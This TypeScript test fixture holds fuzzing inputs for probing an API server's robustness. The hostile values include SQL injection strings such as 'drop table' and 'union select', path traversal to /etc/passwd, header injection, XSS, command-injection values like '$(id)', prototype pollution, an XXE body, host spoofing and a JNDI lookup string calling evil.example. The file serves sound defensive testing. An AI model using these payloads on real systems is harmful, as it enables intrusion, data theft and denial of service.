/** Values that have broken servers before. The SQL is in small letters, so that ours in an answer stands out. */

const nested = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth)

/** Not made from a value: JSON text that no value stands for. */
export class RawJson {
  readonly text: string
  constructor(text: string) {
    this.text = text
  }
}

/** Already percent-encoded, or wrongly so. */
export class RawPath {
  readonly text: string
  constructor(text: string) {
    this.text = text
  }
}

const SQL = [
  "' or 1=1--",
  "1' or '1'='1",
  "'; drop table event; --",
  "') union select name, secret from secret --",
  '1; select pg_sleep(20)--',
  "'||(select pg_sleep(20))||'",
  '1 or 1=1',
  '"; delete from person where "1"="1',
  '$1',
  '$(1)',
  "\\'; --",
  "E'\\x27'",
  '/**/or/**/1=1',
  "'::regclass",
  '%27%20or%201=1',
]
const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '/etc/passwd',
  'file:///etc/passwd',
  'C:\\boot.ini',
  '.',
  '..',
  '.git/config',
  'package.json',
  '\\\\host\\share',
]
const HEADERS = [
  'x\r\nset-cookie: stolen=1',
  'x\nx-forged: 1',
  'x\r\n\r\n<script>alert(1)</script>',
  'x\u2028y',
  'x\u0085y',
]
const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '`id`',
  '$(id)',
  '| id',
]
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__proto__[polluted]',
  'constructor.prototype.polluted',
]
const REGEX = [
  `${'a'.repeat(5000)}!`,
  '('.repeat(5000),
  '(a+)+$',
  `${'%_'.repeat(2000)}x`,
  '\\'.repeat(3001),
  `${' '.repeat(5000)}x`,
  `${'1.'.repeat(2000)}x`,
  `${'-'.repeat(4000)}`,
  `${'2026-'.repeat(1000)}`,
]
const UNICODE = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udfffb',
  '\ufeff',
  '\u202e\u2066x',
  'ﷺ'.repeat(500),
  `e${'\u0301'.repeat(3000)}`,
  '\u{10ffff}',
  '𠮷',
  'ı',
  'İ'.repeat(100),
]
const NUMBERS = [
  0,
  -0,
  -1,
  1.5,
  1e-320,
  2 ** 31,
  2 ** 31 - 1,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 53 - 1,
  2 ** 63,
  1e21,
  1e308,
  -1e308,
]
const NUMBER_TEXTS = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '1e5',
  '0x10',
  '٣',
  '１',
  ' 1',
  '1 ',
  '+1',
  '1_000',
  '9223372036854775808',
  '99999999999999999999999999999999',
  '1,2',
  '0.1.2',
  '',
]
const TIMES = [
  '0000-00-00',
  '2026-02-30T25:61:61Z',
  '+275761-01-01T00:00:00Z',
  '-271822-01-01T00:00:00Z',
  '294277-01-01',
  '2026-11-22T07:00:00+99:99',
  'infinity',
  'epoch',
  'now',
  '9999-12-31T23:59:59.999999999Z',
]
const BOXES = [
  '180,90,-180,-90',
  '1,2,3',
  '1,2,3,4,5',
  'NaN,NaN,NaN,NaN',
  '-1e300,-1e300,1e300,1e300',
  '120,31,120,31',
  ',,,',
  '120,91,121,92',
]

export const TEXTS: readonly string[] = [
  ...SQL,
  ...PATHS,
  ...HEADERS,
  ...SCRIPTS,
  ...NAMES,
  ...REGEX,
  ...UNICODE,
  ...NUMBER_TEXTS,
  ...TIMES,
  ...BOXES,
  'a'.repeat(9000),
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
]

export const PATH_TEXTS: readonly RawPath[] = [
  '%00',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e',
  '%c0%ae%c0%ae%c0%af',
  '%ED%A0%80',
  '%FF%FE',
  '%',
  '%zz',
  '%u0041',
  '%0d%0aset-cookie:%20stolen=1',
  '%250d%250a',
  ';jsessionid=1',
  '%3Fx=1',
  '%23x',
  '1%00',
  '1%20',
  '//',
].map((text) => new RawPath(text))

const coordinates = (count: number) =>
  Array.from({ length: count }, (_, index) => [
    120 + (index % 1000) / 1e5,
    31 + Math.floor(index / 1000) / 1e5,
  ])
const ring = (...corners: number[][]) => [...corners, corners[0]]

/** Made when they are chosen: some are megabytes. */
export const GEOMETRIES: readonly (() => unknown)[] = [
  () => ({ type: 'Point', coordinates: [] }),
  () => ({ type: 'Point', coordinates: [1e308, -1e308] }),
  () => ({ type: 'Point', coordinates: ['120', '31'] }),
  () => ({ type: 'Point', coordinates: [120, 31, 'x', { a: 1 }] }),
  () => ({ type: 'Point', coordinates: [120, 91] }),
  () => new RawJson('{"type":"Point","coordinates":[1e999,31]}'),
  () => ({ type: 'LineString', coordinates: [[120, 31]] }),
  () => ({
    type: 'LineString',
    coordinates: [
      [120, 31],
      [120, 31],
    ],
  }),
  () => ({ type: 'LineString', coordinates: coordinates(150_000) }),
  () => ({ type: 'Polygon', coordinates: [] }),
  () => ({ type: 'Polygon', coordinates: [[]] }),
  () => ({
    type: 'Polygon',
    coordinates: [
      [
        [120, 31],
        [120, 31],
        [120, 31],
        [120, 31],
      ],
    ],
  }),
  () => ({ type: 'Polygon', coordinates: [ring([120, 31], [120.01, 31.01], [120.01, 31], [120, 31.01])] }),
  () => ({ type: 'Polygon', coordinates: [ring([-180, -90], [180, -90], [180, 90], [-180, 90])] }),
  () => ({ type: 'Polygon', coordinates: [ring(...coordinates(40_000))] }),
  () => ({
    type: 'MultiPolygon',
    coordinates: Array.from({ length: 5000 }, () => [ring([120, 31], [120.001, 31], [120, 31.001])]),
  }),
  () => ({ type: 'GeometryCollection', geometries: [{ type: 'Point', coordinates: [120, 31] }] }),
  () => ({ type: 'Circle', coordinates: [120, 31], radius: 5 }),
  () => ({ type: '__proto__', coordinates: [120, 31] }),
  () => new RawJson(`{"type":"MultiPolygon","coordinates":${nested(5000, '[', ']')}}`),
  () =>
    new RawJson(
      `{"type":"GeometryCollection","geometries":[${'{"type":"GeometryCollection","geometries":['.repeat(2000)}${']}'.repeat(2000)}]}`,
    ),
]

/** In place of any part of a body. */
export const VALUES: readonly (() => unknown)[] = [
  () => null,
  () => true,
  () => false,
  () => [],
  () => ({}),
  () => [null],
  () => [[[[[[]]]]]],
  () => ({ $ne: null }),
  () => ({ toString: 'x', valueOf: 1 }),
  () => ({ length: 1e9 }),
  () => Array.from({ length: 100_000 }, (_, index) => index),
  () => Array.from({ length: 20_000 }, () => ({ a: 1 })),
  () => Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`key${index}`, index])),
  () => new RawJson('{"__proto__":{"polluted":true}}'),
  () => new RawJson('{"constructor":{"prototype":{"polluted":true}}}'),
  () => new RawJson('1e999'),
  () => new RawJson('-1e999'),
  () => new RawJson('123456789012345678901234567890'),
  () => new RawJson('"\\ud800"'),
  () => new RawJson('"\\u0000"'),
  () => new RawJson(nested(50_000, '[', ']')),
  () => new RawJson(`${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`),
  () => 'x'.repeat(1_000_000),
  ...NUMBERS.map((number) => () => number),
]

/** In place of a whole body. */
export const BODIES: readonly string[] = [
  '',
  ' ',
  'null',
  '0',
  '"x"',
  '[]',
  '{',
  '}',
  '{"a":1,}',
  "{'a':1}",
  '{"a":1}{"b":2}',
  '\ufeff{}',
  'NaN',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e system "file:///etc/passwd">]><x>&e;</x>',
  'a=1&b=2',
  nested(100_000, '[', ']'),
  nested(100_000, '{"a":', '}'),
  `"${'x'.repeat(8_500_000)}"`,
  '{"__proto__":{"polluted":true}}',
]

export const CONTENT_TYPES: readonly string[] = [
  'application/json',
  'application/json; charset=utf-16',
  'application/json; charset="',
  'application/vnd.x+json',
  'text/plain',
  'text/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  `multipart/form-data; boundary=${'-'.repeat(500)}`,
  'image/jpeg',
  'image/svg+xml',
  '/',
  ';',
]

/** A header that any request may carry, and what it may hold. */
export const HEADER_VALUES: Readonly<Record<string, readonly string[]>> = {
  accept: ['*/*;q=9', 'application/../json', 'text/html,'.repeat(500)],
  'accept-encoding': ['identity;q=0', '*;q=0', 'br;q=1.5', 'gzip,'.repeat(500), '\u00ff'],
  authorization: [
    'Bearer gw_',
    `Bearer gw_${'A'.repeat(43)}`,
    'Basic !!!!',
    'Basic Og==',
    'Digest x',
    `Bearer ${'x'.repeat(8000)}`,
  ],
  cookie: [
    'gridward.session=x',
    'gridward.session=%',
    'gridward.kiosk=gw_x',
    '__proto__=1',
    '='.repeat(3000),
    'a=b;'.repeat(900),
  ],
  host: ['evil.example', 'localhost:99999', 'localhost@evil.example', '', '[::1', 'localhost/../x'],
  'if-match': ['*', '"1"', '"-1"', 'W/"1"', '"99999999999999999999"', '"1\' or 1=1"', '"1", "2"'],
  'if-none-match': ['*', 'W/"x"', '"'.repeat(2000), ','.repeat(2000)],
  'last-event-id': ['-1', '99999999999999999', '1e3', 'x'.repeat(5000)],
  origin: ['null', 'https://evil.example', 'http://localhost.evil.example'],
  range: [
    'bytes=0-',
    'bytes=-0',
    'bytes=9-1',
    `bytes=${'0-0,'.repeat(1000)}`,
    'bytes=99999999999999999999-',
    'x=1',
  ],
  'x-forwarded-for': ["1.1.1.1' or 1=1--", ','.repeat(3000), '__proto__'],
  'x-forwarded-host': ['evil.example'],
  'x-http-method-override': ['DELETE'],
  'x-original-url': ['/api/v1/people'],
  'x-request-id': ['x'.repeat(5000), '$' + '{jndi:ldap://evil.example/x}'],
}
